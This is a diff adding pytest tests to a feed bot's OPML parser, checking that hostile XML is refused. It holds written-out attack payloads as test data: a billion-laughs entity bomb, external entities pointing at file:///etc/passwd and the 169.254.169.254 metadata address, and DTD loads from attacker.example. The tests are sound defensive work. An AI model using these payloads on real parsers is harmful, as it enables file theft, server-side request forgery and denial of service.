@@ -1,6 +1,7 @@
 """OPML export and import (bot/core/opml.py), hostile documents, and importing entries as feeds."""
 from __future__ import annotations
 
+import time
 import xml.etree.ElementTree as ET
 from dataclasses import dataclass
 from datetime import datetime, timezone
@@ -145,3 +146,42 @@ async def test_import_feeds_reports_added_skipped_invalid(tmp_path):
     by_loc = {f.location: f for f in feeds}
     assert by_loc["https://example.com/tagged.xml"].category == ("金融", "新浪财经")
     assert by_loc["https://feeds.arstechnica.com/arstechnica/index"].name == "Ars"
+
+
+# ---------------------------------------------------------------- hostile OPML (parsed through defusedxml)
+_OPML_BODY = '<opml version="2.0"><head/><body><outline text="{text}" xmlUrl="https://example.com/feed"/></body></opml>'
+LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE opml [\n <!ENTITY lol "lol">\n'
+          + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
+          + "]>\n" + _OPML_BODY.format(text="&lol9;"))
+
+
+@pytest.mark.parametrize("doc", [
+    pytest.param(LAUGHS, id="billion-laughs"),
+    pytest.param('<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
+                 + _OPML_BODY.format(text="&xxe;"), id="external-entity-file"),
+    pytest.param('<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/">]>\n'
+                 + _OPML_BODY.format(text="&xxe;"), id="external-entity-url"),
+    pytest.param('<?xml version="1.0"?>\n<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n'
+                 + _OPML_BODY.format(text="x"), id="parameter-entity"),
+    pytest.param('<!DOCTYPE opml SYSTEM "http://attacker.example/opml.dtd">' + _OPML_BODY.format(text="x"),
+                 id="external-dtd"),
+    pytest.param('<!DOCTYPE opml []>' + _OPML_BODY.format(text="x"), id="empty-internal-dtd"),
+    pytest.param('<!DOCTYPE opml [<!ENTITY name "Feed">]>' + _OPML_BODY.format(text="&name;"), id="harmless-entity"),
+])
+def test_hostile_opml_is_refused_with_a_clear_error_before_anything_expands(doc):
+    started = time.perf_counter()
+    got = parse_opml(doc.encode())
+    assert time.perf_counter() - started < 1.0
+    assert isinstance(got, OpmlError) and got.reason == "doctype", got
+    assert "DOCTYPE" in got.detail or "entit" in got.detail or "external" in got.detail
+
+
+def test_an_undeclared_entity_is_malformed_not_fetched():
+    got = parse_opml(_OPML_BODY.format(text="&xxe;").encode())
+    assert isinstance(got, OpmlError) and got.reason == "malformed"
+
+
+def test_a_feed_url_with_credentials_is_exported_without_them():
+    data = export_opml([F("Private", "rss", "https://ann:s3cret@feeds.example.com/private.xml")], now=T0)
+    assert b"s3cret" not in data and b"ann" not in data
+    assert parse_opml(data).entries == [OpmlEntry("https://feeds.example.com/private.xml", "Private", ())]
